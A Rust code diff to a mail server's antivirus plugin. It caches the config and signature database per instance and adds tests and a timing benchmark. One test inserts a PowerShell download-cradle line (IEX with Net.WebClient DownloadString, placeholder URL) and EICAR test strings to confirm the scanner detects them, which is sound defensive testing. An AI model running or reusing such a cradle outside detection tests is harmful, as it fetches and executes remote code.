@@ -183,6 +183,33 @@ pub fn reject_reply(f: &Finding) -> Reply {
     )
 }
 
+/// What the config and the assets give: built on an instance's first
+/// message and kept while it serves more (`reuse` in the plugin's entry), as
+/// parsing the signature files costs far more than scanning a typical part.
+#[derive(Debug)]
+pub struct State {
+    /// The parsed config.
+    pub cfg: Config,
+    /// The scanner policy it gives.
+    pub policy: Policy,
+    /// The signatures from the assets.
+    pub db: SigDb,
+}
+
+impl State {
+    /// Parses the config, then loads the signatures with `load` (not called
+    /// for a bad config, which fails without reading assets).
+    pub fn build(json: &str, load: impl FnOnce() -> SigDb) -> Result<State, String> {
+        let cfg = Config::parse(json)?;
+        let policy = cfg.policy();
+        Ok(State {
+            cfg,
+            policy,
+            db: load(),
+        })
+    }
+}
+
 /// Loads every granted asset into one database; bad lines are logged.
 fn load_signatures() -> SigDb {
     let mut db = SigDb::default();
@@ -209,9 +236,8 @@ impl Plugin for Antivirus {
     const HOOKS: &'static [Hook] = &[Hook::Body];
 
     fn body(_env: Envelope, msg: &Message) -> HookResult<Verdict> {
-        let cfg = Config::parse(&poczta_plugin::config_json())?;
-        let policy = cfg.policy();
-        let db = load_signatures();
+        let state = poczta_plugin::per_instance(|json| State::build(json, load_signatures))?;
+        let State { cfg, policy, db } = &*state;
         let parts: Vec<PartInfo> = msg
             .parts()
             .into_iter()
@@ -221,8 +247,8 @@ impl Plugin for Antivirus {
                 is_attachment: p.is_attachment,
             })
             .collect();
-        let mut scanner = Scanner::new(&policy, &db);
-        let finding = scan_parts(&mut scanner, &policy, &parts, |i| msg.part_body(i));
+        let mut scanner = Scanner::new(policy, db);
+        let finding = scan_parts(&mut scanner, policy, &parts, |i| msg.part_body(i));
         for s in scanner.skipped.iter().take(5) {
             poczta_plugin::info(format!("not scanned: {s}"));
         }
@@ -320,5 +346,109 @@ mod tests {
             scan_parts(&mut Scanner::new(&policy, &db), &policy, &parts[..2], |_| None),
             None
         );
+    }
+
+    fn example_db() -> SigDb {
+        let mut db = SigDb::default();
+        db.load("example.hdb", include_str!("../signatures/example.hdb"));
+        db.load("example.ndb", include_str!("../signatures/example.ndb"));
+        db
+    }
+
+    #[test]
+    fn state_is_built_once_and_not_from_a_bad_config() {
+        let loads = std::cell::Cell::new(0);
+        let load = || {
+            loads.set(loads.get() + 1);
+            example_db()
+        };
+        let json = r#"{"action": "quarantine"}"#;
+        let a = poczta_plugin::per_config_text(json, |j| State::build(j, load)).unwrap();
+        let b = poczta_plugin::per_config_text(json, |j| State::build(j, load)).unwrap();
+        assert!(std::rc::Rc::ptr_eq(&a, &b));
+        assert_eq!((loads.get(), a.cfg.action), (1, Action::Quarantine));
+        assert!(a.db.len() >= 3);
+        assert!(State::build(r#"{"action": "strip"}"#, load).is_err());
+        assert_eq!(loads.get(), 1, "assets are not read for a bad config");
+    }
+
+    #[test]
+    fn example_signatures_in_large_text_parts() {
+        let state = State::build("{}", example_db).unwrap();
+        let scan = |text: &[u8]| {
+            let mut s = Scanner::new(&state.policy, &state.db);
+            s.scan(text, false, 0, "part 1").map(|f| f.name)
+        };
+        let mut text = bench_text(100 << 10);
+        assert_eq!(scan(&text), None);
+        let mid = text.len() / 2;
+        text.splice(
+            mid..mid,
+            b"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('x')\""
+                .iter()
+                .copied(),
+        );
+        assert_eq!(scan(&text).as_deref(), Some("Example.Script.DownloadCradle"));
+        let mut text = bench_text(100 << 10);
+        text.extend(b"POCZTA and WILDCARD-SIG POCZTA12345678WILDCARD SIG\r\n");
+        assert_eq!(scan(&text).as_deref(), Some("Poczta.Test.Wildcard"));
+        text.splice(10..10, b"POCZTA-TEST-SIGNATURE-NDB".iter().copied());
+        assert_eq!(scan(&text).as_deref(), Some("Poczta.Test.Ndb"));
+        text.splice(100..100, [scan::EICAR_HEAD, scan::EICAR_TAIL].concat());
+        assert_eq!(scan(&text).as_deref(), Some(scan::EICAR_NAME));
+    }
+
+    /// The benchmark's message text: CRLF lines of 78 characters.
+    fn bench_text(size: usize) -> Vec<u8> {
+        let phrase =
+            "The quick brown fox jumps over the lazy dog. 0123456789 PACK MY BOX WITH FIVE DOZEN JUGS! ";
+        let mut chars = phrase.bytes().cycle();
+        let mut out = Vec::with_capacity(size + 80);
+        while out.len() < size {
+            out.extend(chars.by_ref().take(78));
+            out.extend(b"\r\n");
+        }
+        out
+    }
+
+    /// Per-message cost, natively (a proxy for the wasm cost):
+    /// `cargo test --release -p antivirus -- --ignored --nocapture measure`.
+    #[test]
+    #[ignore]
+    fn measure_scan_cost() {
+        use std::time::Instant;
+        let load = example_db;
+        let parts = [PartInfo {
+            index: 0,
+            filename: None,
+            is_attachment: false,
+        }];
+        for size in [2 << 10, 100 << 10] {
+            let text = bench_text(size);
+            let iters = if size < 10_000 { 2000 } else { 200 };
+            // What the hook does per message (the clone stands for the copy
+            // `part-body` makes).
+            let t = Instant::now();
+            for _ in 0..iters {
+                let state = poczta_plugin::per_config_text("{}", |j| State::build(j, load)).unwrap();
+                let (policy, db) = (&state.policy, &state.db);
+                let f = scan_parts(&mut Scanner::new(policy, db), policy, &parts, |_| {
+                    Some(text.clone())
+                });
+                assert_eq!(f, None);
+            }
+            let hook = t.elapsed().as_secs_f64() * 1e6 / iters as f64;
+            let state = State::build("{}", load).unwrap();
+            let t = Instant::now();
+            for _ in 0..iters {
+                let f = Scanner::new(&state.policy, &state.db).scan(&text, false, 0, "part 1");
+                assert_eq!(f, None);
+            }
+            let scan = t.elapsed().as_secs_f64() * 1e6 / iters as f64;
+            println!(
+                "antivirus {} KB: per message {hook:.1} µs, scan only {scan:.1} µs",
+                size >> 10
+            );
+        }
     }
 }
